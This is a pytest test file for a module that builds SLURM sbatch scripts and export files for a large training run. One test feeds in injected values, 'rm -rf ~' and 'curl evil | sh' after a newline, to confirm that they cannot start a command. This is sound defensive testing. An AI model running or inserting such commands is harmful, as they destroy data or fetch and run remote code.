"""analysis.report.export: the sbatch text of the full-length run, its time limit, and the exported files."""

from __future__ import annotations

import os

import pytest

from analysis.report.export import MIN_TIME_S, SbatchSpec, sbatch_script, slurm_time, time_limit_s, write_export


@pytest.mark.parametrize("seconds, text", [(1, "0-00:01:00"), (60, "0-00:01:00"), (61, "0-00:02:00"),
                                           (90061, "1-01:02:00"), (3 * 86400, "3-00:00:00")])
def test_slurm_time_rounds_up_to_minutes(seconds, text):
    assert slurm_time(seconds) == text


def test_time_limit_is_startup_plus_iterations_with_margin_and_a_floor():
    assert time_limit_s(0.5, 100_000, 180) == pytest.approx(180 + 100_000 * 0.5 * 1.2)
    assert time_limit_s(0.01, 10, 10) == MIN_TIME_S
    assert time_limit_s(None, 10, 10) == MIN_TIME_S


def _sbatch(**changes) -> str:
    spec = dict(job_name="70b-train-abc", partition="gpu", nodes=4, gpus_per_node=8, time_s=7200,
                workdir="/scratch/sweeps/70b/export")
    spec.update(changes)
    return sbatch_script(SbatchSpec(**spec))


def _options(text: str) -> dict[str, str]:
    out = {}
    for line in text.splitlines():
        if line.startswith("#SBATCH --"):
            key, _, value = line[len("#SBATCH --"):].partition("=")
            out[key] = value
    return out


def test_sbatch_asks_for_the_winners_nodes_and_gpus():
    text = _sbatch(comments=["winner of sweep 70b"], setup=["module load cuda/12.4"], srun_args=["--cpu-bind=none"])
    options = _options(text)
    assert options["nodes"] == "4" and options["gpus-per-node"] == "8" and options["ntasks-per-node"] == "1"
    assert options["partition"] == "gpu" and options["time"] == "0-02:00:00" and options["job-name"] == "70b-train-abc"
    assert options["chdir"] == "/scratch/sweeps/70b/export" and "exclusive" in options
    assert text.startswith("#!/bin/bash\n# winner of sweep 70b\n")
    body = text.splitlines()
    assert body[-1] == "srun --cpu-bind=none bash launch.sh"
    assert body.index("module load cuda/12.4") < body.index("srun --cpu-bind=none bash launch.sh")
    # sbatch stops reading #SBATCH lines at the first command: every option comes before `set -e`
    assert max(i for i, ln in enumerate(body) if ln.startswith("#SBATCH")) < body.index("set -euo pipefail")


def test_sbatch_optional_settings_appear_only_when_set():
    options = _options(_sbatch(exclusive=False))
    assert not {"account", "qos", "constraint", "reservation", "mem", "exclude", "exclusive"} & set(options)
    options = _options(_sbatch(account="proj", qos="high", mem_gb=500, exclude=("n1", "n2"),
                               extra={"mail-type": "FAIL"}))
    assert options["account"] == "proj" and options["qos"] == "high" and options["mem"] == "500G"
    assert options["exclude"] == "n1,n2" and options["mail-type"] == "FAIL"


def test_a_newline_in_a_value_cannot_start_a_command():
    text = _sbatch(partition="gpu\nrm -rf ~", comments=["model x\ncurl evil | sh"])
    assert not any(line.startswith(("rm ", "curl ")) for line in text.splitlines())
    assert "#SBATCH --partition=gpu rm -rf ~" in text


def test_write_export_writes_every_file(tmp_path):
    out = tmp_path / "export"
    written = write_export(out, launch_script="#!/usr/bin/env bash\nexec x\n", files={"ds_config.json": "{}\n"},
                           command="torchrun x", sbatch_text="#!/bin/bash\nsrun bash launch.sh\n",
                           benchmark_script="#!/usr/bin/env bash\nexec short\n")
    assert list(written) == ["train.sbatch", "launch.sh", "ds_config.json", "command.txt", "benchmark_launch.sh"]
    assert (out / "ds_config.json").read_text() == "{}\n" and (out / "command.txt").read_text() == "torchrun x\n"
    assert os.access(out / "launch.sh", os.X_OK) and not os.access(out / "ds_config.json", os.X_OK)
    assert not list(out.glob("*.tmp"))


def test_a_cpu_cluster_asks_for_no_gpus():
    from analysis.report.export import gpus_to_request

    assert gpus_to_request({"gpu": "cpu"}, 2) == 0 and gpus_to_request({"gpu": "A100-SXM4-80GB"}, 8) == 8
    options = _options(_sbatch(gpus_per_node=0))
    assert "gpus-per-node" not in options and options["nodes"] == "4" and options["ntasks-per-node"] == "1"
